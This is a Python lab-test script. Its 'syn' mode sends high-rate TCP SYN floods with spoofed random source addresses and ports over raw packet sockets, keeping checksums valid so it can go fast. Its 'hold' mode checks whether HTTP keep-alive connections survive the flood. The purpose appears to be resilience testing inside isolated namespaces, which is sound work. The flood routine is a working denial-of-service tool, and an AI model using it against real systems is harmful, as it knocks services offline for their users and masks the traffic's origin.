#!/usr/bin/python3
"""Hostile traffic for the lab, and the connections it must not hurt.

    flood.py syn DEV DST_MAC VIP PORT --seconds S
        Random-source TCP SYNs to VIP:PORT out of DEV (AF_PACKET) for S
        seconds; prints {"sent": N, "refused": M}, M the frames that the
        kernel refused (ENOBUFS: a full queue on the way out). Sources
        10.A.B.C outside the lab's subnets, client ports 1024-65535: millions
        of distinct flows. Every frame is a template with the source address,
        the source port and the sequence number chosen so that both checksums
        stay the template's.

    flood.py hold HOST PORT N
        Opens N HTTP keep-alive connections, makes one request on each, prints
        {"ready": [answers]}; then, at each SIGUSR1, one more request on each
        and prints {"answers": [...]} (an error text where one failed).

Only for the lab's own namespaces: run it with `ip netns exec`.
"""

from __future__ import annotations

import errno
import http.client
import json
import random
import signal
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800


def ones_sum(data: bytes) -> int:
    """The 16-bit ones' complement sum of data (odd length padded with a zero)."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xffff:
        total = (total & 0xffff) + (total >> 16)
    return total


def fold_sub(a: int, b: int) -> int:
    """a - b in ones' complement arithmetic (16 bits)."""
    return (a + (~b & 0xffff)) % 0xffff


def syn_template(src_mac: bytes, dst_mac: bytes, vip: str, port: int) -> bytearray:
    src, dst = socket.inet_aton("10.200.0.1"), socket.inet_aton(vip)
    tcp = struct.pack("!HHIIBBHHH", 40000, port, 0x12345678, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", 0xffff - ones_sum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64,
                     socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", 0xffff - ones_sum(ip)) + ip[12:]
    return bytearray(dst_mac + src_mac + struct.pack("!H", ETH_P_IP) + ip + tcp)


def flood(dev: str, dst_mac: str, vip: str, port: int, seconds: float) -> tuple[int, int]:
    """(frames sent, frames the kernel refused)."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((dev, 0))
    src_mac = sock.getsockname()[4]
    frame = syn_template(src_mac, bytes.fromhex(dst_mac.replace(":", "")), vip, port)
    # Source words (w1, w2) keep their sum: the IP checksum and the pseudo-header
    # do not change. The client port s and the sequence's high word keep theirs.
    w1, w2 = struct.unpack_from("!HH", frame, 26)
    addr_sum = (w1 + w2) % 0xffff
    sport, seq_hi = struct.unpack_from("!HH", frame, 34)[0], struct.unpack_from("!H", frame, 38)[0]
    port_sum = (sport + seq_hi) % 0xffff
    rng = random.Random(7)
    sent, refused, deadline = 0, 0, time.monotonic() + seconds
    while time.monotonic() < deadline:
        a = rng.randrange(2, 256)                      # 10.2.x.x to 10.255.x.x: not the lab's
        hi = 0x0a00 | a
        struct.pack_into("!HH", frame, 26, hi, fold_sub(addr_sum, hi))
        for s in rng.sample(range(1024, 65536), 256):
            struct.pack_into("!H", frame, 34, s)
            struct.pack_into("!H", frame, 38, fold_sub(port_sum, s))
            try:
                sock.send(frame)
                sent += 1
            except OSError as e:
                # A busy machine fills the veth's backlog (or a qdisc): the
                # frame is dropped, the flood goes on once the queue drains.
                if e.errno != errno.ENOBUFS:
                    raise
                refused += 1
                time.sleep(0.001)
    sock.close()
    return sent, refused


def hold(host: str, port: int, n: int) -> None:
    conns = [http.client.HTTPConnection(host, port, timeout=5) for _ in range(n)]

    def ask_all() -> list[str]:
        answers = []
        for c in conns:
            try:
                c.request("GET", "/")
                answers.append(c.getresponse().read().decode().strip())
            except OSError as e:
                answers.append(f"error: {type(e).__name__}: {e}")
        return answers

    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGUSR1})
    print(json.dumps({"ready": ask_all()}), flush=True)
    while signal.sigwait({signal.SIGUSR1}):
        print(json.dumps({"answers": ask_all()}), flush=True)


def main() -> None:
    cmd, args = sys.argv[1], sys.argv[2:]
    if cmd == "syn":
        seconds = float(args[args.index("--seconds") + 1])
        sent, refused = flood(args[0], args[1], args[2], int(args[3]), seconds)
        print(json.dumps({"sent": sent, "refused": refused}))
    elif cmd == "hold":
        hold(args[0], int(args[1]), int(args[2]))
    else:
        sys.exit(f"flood.py: unknown command {cmd!r}")


if __name__ == "__main__":
    main()
